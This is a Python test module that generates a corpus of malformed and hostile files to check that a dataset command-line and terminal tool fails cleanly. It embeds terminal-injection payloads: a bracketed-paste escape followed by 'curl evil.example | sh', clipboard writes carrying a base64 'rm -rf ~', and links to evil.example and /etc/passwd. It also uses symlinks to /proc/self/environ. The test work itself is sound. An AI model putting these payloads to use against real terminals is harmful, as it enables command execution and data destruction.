"""A generated corpus of bad and hostile input files, built into a folder at test time.

Nothing here is checked in as a binary: every file is written by ``build``.
Each entry is a dataset (or a dataset with a hostile side file) that every
subcommand and the TUI must survive with one honest line: exit 0, 1 or 2, at
most one line on stderr, no "internal error", no control byte on the terminal.

Run it by hand to get a folder to try things on::

    python tests/hostile_corpus.py /tmp/hostile
"""

from __future__ import annotations

import codecs
import io
import json
import os
import random
import sys
import unicodedata
from dataclasses import dataclass
from pathlib import Path

HEADER = "id\tprompt\tsolution0\tsolution1\tlabel\tcategory"
OSC0 = "\x1b]0;pwned\x07"
OSC52 = "\x1b]52;c;cm0gLXJmIH4gIyBwYXN0ZWQ=\x07"
CLEAR = "\x1b[2J"
OSC8 = "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\"
SGR = "\x1b[31;1mred\x1b[0m"
C1_CSI = "\x9b2J"


def _tsv(*rows: str) -> str:
    return "\n".join((HEADER, *rows)) + "\n"


def _row(
    item_id: str,
    prompt: str = "open a jar",
    s0: str = "twist the lid",
    s1: str = "hit the lid",
    label: str = "0",
    category: str = "kitchen",
) -> str:
    return "\t".join((item_id, prompt, s0, s1, label, category))


@dataclass(frozen=True)
class Entry:
    """One corpus file: its name, its bytes, and whether it is a special file made by ``build``."""

    name: str
    data: bytes = b""
    special: str = ""  # fifo | folder | symlink-loop | unreadable | devzero | labels-folder | labels-fifo | kernel


def _text_entries() -> list[Entry]:
    escape_rows = _tsv(
        _row(f"a{OSC0}", prompt=f"clear {CLEAR} now", category="[/]"),
        _row("b", s0=f"copy {OSC52}", s1=f"link {OSC8}", category="[bold]x[/bold]"),
        _row("c", s0=f"colour {SGR}", s1=f"csi {C1_CSI}", category="[/]"),
        _row("d", prompt="bell \x07 backspace \x08 cr \r del \x7f", category="[link=x]"),
        _row("e", s0="bidi \u202e override", category="[bold]x[/bold]"),
        _row("f", prompt=f"clear {CLEAR} now", category="[/]"),
    )
    deep = "[" * 100_000 + "]" * 100_000
    return [
        Entry("escapes.tsv", escape_rows.encode()),
        Entry("escape-columns.tsv", f"x{OSC0}\ty{CLEAR}\n1\t2\n".encode()),
        Entry(
            "deep.jsonl",
            (json.dumps({"goal": "g", "sol1": "a", "sol2": "b", "label": 0})[:-1] + f', "meta": {deep}}}\n').encode(),
        ),
        Entry("long-label.tsv", _tsv(_row("a", label="9" * 5000)).encode()),
        Entry("long-id.tsv", _tsv(_row("1" * 5000)).encode()),
        Entry(
            "long-id.jsonl", (f'{{"id": {"7" * 5000}, "goal": "g", "sol1": "a", "sol2": "b", "label": 0}}\n').encode()
        ),
        Entry("surrogate.jsonl", b'{"goal": "g\\ud800", "sol1": "a", "sol2": "b", "label": 0}\n'),
        Entry("utf16-nobom.tsv", _tsv(_row("a")).encode("utf-16-le")),
        Entry("utf16-bom.tsv", codecs.BOM_UTF16_LE + _tsv(_row("a")).encode("utf-16-le")),
        Entry("cr-only.tsv", _tsv(_row("a"), _row("b")).replace("\n", "\r").encode()),
        Entry("huge-header.tsv", ("\t".join(f"column_{n}_" + "x" * 50 for n in range(40_000)) + "\n").encode()),
        Entry("header-only.tsv", (HEADER + "\n").encode()),
        Entry("arabic-digit-label.tsv", _tsv(_row("a", label="١"), _row("b", label="１")).encode()),
        Entry(
            "fifth-solution.tsv",
            (b"id\tprompt\tsolution0\tsolution1\tsolution2\tsolution3\tsolution4\tlabel\na\tp\tw\tx\ty\tz\tq\t0\n"),
        ),
        Entry(
            "mixed-types.jsonl",
            (
                json.dumps({"goal": "g", "sol1": "a", "sol2": "b", "label": 0, "extra": 1})
                + "\n"
                + json.dumps({"goal": "h", "sol1": "a", "sol2": "b", "label": 1, "extra": "x"})
                + "\n"
                + json.dumps({"goal": "i", "sol1": "a", "sol2": "b", "label": 1, "extra": [1, {"k": 2}]})
                + "\n"
            ).encode(),
        ),
        Entry("nul-bytes.tsv", _tsv(_row("a", prompt="nul\x00inside")).encode()),
        Entry("binary.csv", bytes(range(256)) * 8),
        Entry("big-field.tsv", _tsv(_row("a", prompt="word " * 2_000_000)).encode()),
    ]


# ------------------------------------------------------------------------------------------------
# Generators: each class of attack in variants drawn from a seeded generator, not one literal case.
# PIQA_HOSTILE_SEED picks other variants (a failure message names the seed that found it).

SEED = int(os.environ.get("PIQA_HOSTILE_SEED", "24"))


def _rng(salt: str) -> random.Random:
    return random.Random(f"{SEED}:{salt}")


def huge_numbers(rng: random.Random, n: int = 6) -> list[object]:
    """Numbers no solution number is: past six digits, past 64 bits, floats up to 1e308, negative too."""
    found: list[object] = [2**64 - 1, 2**63, -(2**63) - 1, 10**6]
    for _ in range(n):
        digits = rng.randint(7, 60)
        found.append(rng.choice((1, -1)) * rng.randint(10 ** (digits - 1), 10**digits - 1))
        found.append(float(f"{rng.randint(1, 9)}e{rng.randint(7, 308)}"))
    return found


def huge_label_entries() -> list[Entry]:
    """Labels stored as numbers too large to be labels, in JSON lines, TSV and Parquet (UInt64, Int64, Float64)."""
    import polars as pl

    rng = _rng("labels")
    numbers = huge_numbers(rng)
    rows = [{"goal": f"g{k}", "sol1": "a", "sol2": "b", "label": v} for k, v in enumerate(numbers)]
    jsonl = "".join(json.dumps(r) + "\n" for r in rows[:1] + rows[4:])
    jsonl_one = "".join(json.dumps(r) + "\n" for r in [{"goal": "ok", "sol1": "a", "sol2": "b", "label": 0}, rows[-1]])
    entries = [
        Entry("huge-labels.jsonl", jsonl.encode()),
        Entry("one-huge-label.jsonl", jsonl_one.encode()),
        Entry("huge-label-text.tsv", _tsv(_row("a"), _row("b", label=str(rng.choice(numbers)))).encode()),
    ]
    columns = {
        "uint64": pl.Series([0, 2**64 - 1, 1], dtype=pl.UInt64),
        "int64": pl.Series([1, rng.choice((2**63 - 1, -(2**63))), 0], dtype=pl.Int64),
        "float64": pl.Series([0.0, float(f"1e{rng.randint(7, 308)}"), 1.0], dtype=pl.Float64),
    }
    for name, labels in columns.items():
        buffer = io.BytesIO()
        pl.DataFrame({"goal": ["g", "h", "i"], "sol1": ["a"] * 3, "sol2": ["b"] * 3, "label": labels}).write_parquet(
            buffer
        )
        entries.append(Entry(f"huge-label-{name}.parquet", buffer.getvalue()))
    return entries


def label_base_specs() -> list[str]:
    """``label_base`` values the mapping must refuse: other ASCII numbers, signs, spellings of 0 and 1 in
    other scripts' digits (every Unicode digit with value 0 or 1 that is not ASCII), and huge numbers."""
    rng = _rng("label_base")
    other_digits = [
        chr(c)
        for c in range(0x80, 0x20000)
        if unicodedata.category(chr(c)) == "Nd" and unicodedata.digit(chr(c), None) in (0, 1)
    ]
    found = ["2", "-1", "10", "+1", "01", "1.0", "0x1", "１", "١", "", "one"]
    found += rng.sample(other_digits, 8)
    found += [str(rng.randint(2, 10 ** rng.randint(1, 40))) for _ in range(3)]
    return found


def undecodable_names() -> list[str]:
    """File names that are not valid UTF-8 (as Python sees them: with surrogate escapes), one per suffix."""
    rng = _rng("names")
    bad = [b"\xff", b"\xc3", b"\x80", b"\xed\xa0\x80", b"\xc0\xaf", b"\xf8\x88\x80\x80\x80", b"\xe2\x82"]
    return [
        os.fsdecode(b"name-" + rng.choice(bad) + b"-" + rng.choice(bad) + suffix)
        for suffix in (b".tsv", b".jsonl", b".csv")
    ]


def kernel_files() -> list[Path]:
    """Files the kernel makes up, that stat calls regular (often of size 0): a read may block or never end."""
    candidates = [
        "/proc/kmsg",
        "/proc/self/status",
        "/proc/self/environ",
        "/proc/cpuinfo",
        "/proc/self/mem",
        "/sys/kernel/profiling",
        "/sys/power/state",
    ]
    found = [Path(p) for p in candidates if os.path.isfile(p)]
    return _rng("kernel").sample(found, min(len(found), 5))


def hostile_configs() -> list[tuple[str, bytes]]:
    """Config files that must give one line or be read as meant: deep nesting (arrays and inline tables,
    thousands deep), a BOM before good settings, and server URLs that do not parse."""
    rng = _rng("config")
    depth = rng.randint(1_000, 20_000)
    found = [
        ("deep-array", f"x = {'[' * depth}{']' * depth}\n".encode()),
        ("deep-table", ("x = " + "{a = " * (depth // 4) + "1" + "}" * (depth // 4) + "\n").encode()),
        ("deep-in-keys", f"[keys]\nquit = {'[' * depth}{']' * depth}\n".encode()),
    ]
    for url in ["http://[::1", "http://[", "http://h:99999", "http://:80", "http://[::1]]", "http://[zz]:8", "ftp://h"]:
        found.append((f"url {url}", f'[server]\nurl = "{url}"\n'.encode()))
    found.append(("bom", codecs.BOM_UTF8 + b'annotator = "amina"\n'))
    found.append(("bom-crlf", codecs.BOM_UTF8 + b'annotator = "amina"\r\nbidi = "off"\r\n'))
    return found


def conflicting_key_tables(n: int = 12) -> list[tuple[dict[str, str], str, str]]:
    """``[keys]`` tables that give one action a key another action live at the same time already has:
    (the table, the action remapped, the action it collides with)."""
    from piqa_tui.tui.keymap import CONTEXTS, key_names

    rng = _rng("keys")
    found = [({"vote_2": "1"}, "vote_2", "vote_1"), ({"quit": "1"}, "quit", "vote_1")]
    while len(found) < n:
        _, actions = rng.choice(CONTEXTS)
        owner, taker = rng.sample([a for a in actions], 2)
        free = sorted(key_names(owner.keys) - key_names(taker.keys))
        if not free or owner.id == taker.id:
            continue
        own = sorted(key_names(taker.keys))  # an action may have no key of its own yet
        keys = ",".join([rng.choice(free), *rng.sample(own, rng.randint(0, min(1, len(own))))])
        found.append(({taker.id: keys}, taker.id, owner.id))
    return found


# Terminal and UI injection: what a value, a column or an annotator name may carry.

# A command a pasted text would run once a bracketed paste is ended early.
PASTED_COMMAND = "curl evil.example | sh\n"


def escape_sequences(n: int = 12) -> list[str]:
    """Escape sequences that act on a terminal or what is pasted: titles, clipboard writes, links, DCS
    passthrough (tmux's too), a bracketed-paste end followed by a command, C1 forms, each with a drawn end."""
    rng = _rng("escapes")
    ends = ["\x07", "\x1b\\", "\x9c"]
    payload = "cm0gLXJmIH4="  # base64 of a command

    def osc(body: str) -> str:
        return rng.choice(("\x1b]", "\x9d")) + body + rng.choice(ends)

    makers = [
        lambda: osc(f"{rng.choice((0, 1, 2))};pwned-{rng.randint(0, 999)}"),
        lambda: osc(f"52;{rng.choice('cps')};{payload}"),
        lambda: osc(f"8;;http://evil.example/{rng.randint(0, 99)}") + "click" + osc("8;;"),
        lambda: "\x1bP" + rng.choice(("tmux;\x1b\x1b]52;c;" + payload + "\x07", "+q544e", "$q m")) + "\x1b\\",
        lambda: "\x1b[201~" + PASTED_COMMAND + "\x1b[200~",
        lambda: rng.choice(("\x1b[", "\x9b")) + rng.choice(("2J", "H", "?1049h", "6n", "?2004l", "31;1m")),
        lambda: "\x1b" + rng.choice("c78=>NO"),
        lambda: "".join(chr(rng.choice([*range(0, 9), *range(11, 32), *range(127, 160)])) for _ in range(3)),
    ]
    return [makers[k % len(makers)]() for k in range(n)]


def markup_texts(n: int = 10) -> list[str]:
    """Rich and Textual markup that would style, link or run an action if parsed: ``[@click=…]``, ``[link=…]``,
    closing tags, emoji codes."""
    rng = _rng("markup")
    actions = ["app.quit", "app.exit", "screen.dismiss", "app.push_screen('help')", "app.bell"]
    found = [
        f"[@click={rng.choice(actions)}]x[/]",
        f"[link=http://evil.example/{rng.randint(0, 99)}]here[/link]",
        "[link=file:///etc/passwd]p[/]",
        "[/]",
        "[bold red on white]loud[/]",
        ":warning: :skull:",
        f"[@click=app.quit]{rng.choice(('q', 'ok', 'category'))}",
        "\\[escaped] [b]x",
    ]
    # An action and a link always, the rest drawn: any n of two or more holds both dangers.
    return (
        found[:2] + [rng.choice(found) for _ in range(n - 2)]
        if n > len(found)
        else found[:2] + rng.sample(found[2:], n - 2)
    )


INVISIBLE_CHARACTERS = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u200e\u200f\u2061\u3164\ufe0f\U000e0041\u034f\u180e"


def invisible_twin(name: str, rng: random.Random) -> str:
    """``name`` with one to three invisible characters put inside it: printed, it looks the same."""
    chars = list(name)
    for _ in range(rng.randint(1, 3)):
        chars.insert(rng.randint(1, max(1, len(chars) - 1)), rng.choice(INVISIBLE_CHARACTERS))
    return "".join(chars)


def invisible_twins(names: tuple[str, ...] = ("selma", "amina", "karim")) -> list[tuple[str, str]]:
    """(name, a look-alike of it) pairs: the two print alike but are different annotators."""
    rng = _rng("twins")
    return [(name, invisible_twin(name, rng)) for name in names]


def id_twins(n: int = 3) -> list[tuple[str, str]]:
    """(item id, a look-alike id) pairs: two items a reader cannot tell apart."""
    rng = _rng("ids")
    return [(f"item-{k}", invisible_twin(f"item-{k}", rng)) for k in range(n)]


def hostile_names(n: int = 6) -> list[str]:
    """Column names, category values, ids and annotator names mixing escapes, markup and invisible characters."""
    rng = _rng("names")
    escapes, markup = escape_sequences(n), markup_texts(n)
    return [
        invisible_twin(f"{markup[k]}{escapes[k]}c{k}", rng) if k % 2 else f"{escapes[k]}{markup[k]}c{k}"
        for k in range(n)
    ]


def hostile_columns_dataset(folder: Path) -> Path:
    """``hostile_columns_tsv`` written to ``folder``."""
    path = folder / "hostile-columns.tsv"
    path.write_text(hostile_columns_tsv(), encoding="utf-8")
    return path


def hostile_columns_tsv(n_columns: int = 4, n_items: int = 6) -> str:
    """A dataset whose categorical columns are named and valued with hostile text (no tab or newline in them,
    so the TSV keeps its shape): what ``score --by``, ``stats``, ``agree`` and the results screen show."""
    rng = _rng("columns")
    columns = [name.replace("\t", " ").replace("\n", " ") for name in hostile_names(n_columns)]
    values = [v.replace("\t", " ").replace("\n", " ") for v in markup_texts(3) + escape_sequences(3)]
    header = "\t".join(("id", "prompt", "solution0", "solution1", "label", *columns))
    rows = [
        "\t".join(
            (
                f"q{k}",
                rng.choice(("open a jar", "cool soup", "dry a phone"))
                + rng.choice(escape_sequences(4)).replace("\n", " "),
                "twist the lid",
                "hit the lid",
                str(k % 2),
                *(values[(k + j) % 2 + 2 * (j % 3)] for j in range(n_columns)),
            )
        ).replace("\r", " ")
        for k in range(n_items)
    ]
    return "\n".join((header, *rows)) + "\n"


def batches(paths: list[Path], size: int = 6) -> list[list[Path]]:
    """The files in groups for one driver process each: the special files (FIFOs, devices…) alone, so a
    hang names its file, the others together, so the interpreter starts a few times, not once per file."""
    special = {e.name for e in entries() if e.special}
    alone = [[p] for p in paths if p.name in special]
    rest = [p for p in paths if p.name not in special]
    return alone + [rest[k : k + size] for k in range(0, len(rest), size)]


def entries() -> list[Entry]:
    """Every corpus file, text ones and special ones."""
    specials = [
        Entry("fifo.tsv", special="fifo"),
        Entry("folder.tsv", special="folder"),
        Entry("loop.tsv", special="symlink-loop"),
        Entry("unreadable.tsv", special="unreadable"),
        Entry("zero.tsv", special="devzero"),
        Entry("lst-folder.jsonl", special="labels-folder"),
        Entry("lst-fifo.jsonl", special="labels-fifo"),
    ]
    hostile = [Entry("hostile-columns.tsv", hostile_columns_tsv().encode())]
    return _text_entries() + hostile + huge_label_entries() + _undecodable_entries() + specials + _kernel_entries()


def _undecodable_entries() -> list[Entry]:
    """Good data under a bad name, in the format the name's suffix says."""
    tsv = _tsv(_row("a"), _row("b", label="1"))
    content = {
        ".tsv": tsv,
        ".csv": tsv.replace("\t", ","),
        ".jsonl": "".join(
            json.dumps({"goal": g, "sol1": "a", "sol2": "b", "label": n}) + "\n" for n, g in enumerate("gh")
        ),
    }
    return [Entry(name, content[Path(name).suffix].encode()) for name in undecodable_names()]


def _kernel_entries() -> list[Entry]:
    return [Entry(f"kernel-{k}.tsv", str(path).encode(), special="kernel") for k, path in enumerate(kernel_files())]


def _make_special(path: Path, kind: str, data: bytes = b"") -> None:
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    elif kind == "symlink-loop":
        path.symlink_to(path.name)
    elif kind == "unreadable":
        path.write_text(_tsv(_row("a")))
        path.chmod(0)
    elif kind == "devzero":
        path.symlink_to("/dev/zero")
    elif kind == "kernel":  # the entry's data names the kernel file to link to
        path.symlink_to(data.decode())
    elif kind.startswith("labels-"):
        path.write_text(json.dumps({"goal": "g", "sol1": "a", "sol2": "b"}) + "\n")
        lst = path.with_name(path.stem + "-labels.lst")
        lst.mkdir() if kind == "labels-folder" else os.mkfifo(lst)


def build(folder: Path) -> list[Path]:
    """Write every corpus file into ``folder``; returns their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for entry in entries():
        path = folder / entry.name
        if entry.special:
            _make_special(path, entry.special, entry.data)
        else:
            path.write_bytes(entry.data)
        paths.append(path)
    return paths


def hostile_votes(folder: Path) -> Path:
    """A votes file with a repeated column and ids that carry escape sequences."""
    path = folder / "votes-hostile.tsv"
    path.write_text(f"item_id\tannotator\tchoice\tchoice\ttime\nzz{OSC0}\tamina{CLEAR}\t1\t0\t2026-01-01T00:00:00Z\n")
    return path


# Files that load as datasets and whose content adds nothing to what escapes.tsv shows ``score``:
# scoring them would only load the model once more (seconds each).
UNSCORED = {
    "long-id.tsv",
    "mixed-types.jsonl",
    "nul-bytes.tsv",
    "utf16-bom.tsv",
    "unreadable.tsv",
    "arabic-digit-label.tsv",
}


def command_lines(path: Path, out: Path, votes: Path) -> list[list[str]]:
    """Every subcommand's argument list for one corpus file (``out``: a folder for exports)."""
    p = str(path)
    score = [] if path.name in UNSCORED else [["score", p, "--limit", "2", "--no-cache"]]
    return score + [
        ["validate", p],
        ["validate", p, "--json"],
        ["stats", p],
        ["stats", p, "--json"],
        ["dedup", p],
        ["card", p],
        ["agree", p],
        ["agree", p, "--markdown"],
        ["export", p, "--to", str(out / f"{path.stem}.jsonl")],
        ["export", p, "--to", str(out / f"{path.stem}.csv")],
        ["export", p, "--to", str(out / f"{path.stem}.parquet")],
        ["votes", "import", p, str(votes)],
        ["votes", "export", p, str(out / f"{path.stem}-votes.tsv")],
    ]


def run_in_process(argv: list[str]) -> dict[str, object]:
    """``piqa-tui ARGV`` in this process, its stdout and stderr caught as the bytes a terminal would get."""
    import contextlib
    import io

    from piqa_tui.cli.main import main

    streams = [io.TextIOWrapper(io.BytesIO(), encoding="utf-8", errors="strict", write_through=True) for _ in range(2)]
    with contextlib.redirect_stdout(streams[0]), contextlib.redirect_stderr(streams[1]):
        code: int | str
        try:
            code = main(argv)
        except SystemExit as exc:  # argparse
            code = exc.code if isinstance(exc.code, int) else 2
        except UnicodeEncodeError as exc:  # what a real terminal stream would have raised
            code = f"unencodable output: {exc}"
    out, err = (s.buffer.getvalue().decode("utf-8", "replace") for s in streams)
    return {"argv": argv, "code": code, "out": out, "err": err}


def _run_files(out: Path, votes: Path, paths: list[Path]) -> None:
    """Every subcommand on each file, one JSON line each on stdout (the driver the tests start)."""
    real = sys.stdout
    for path in paths:
        for argv in command_lines(path, out, votes):
            real.write(json.dumps({"file": path.name, **run_in_process(argv)}) + "\n")
            real.flush()


if __name__ == "__main__":
    if sys.argv[1] == "--run":
        _run_files(Path(sys.argv[2]), Path(sys.argv[3]), [Path(p) for p in sys.argv[4:]])
    else:
        for made in build(Path(sys.argv[1])):
            print(made)
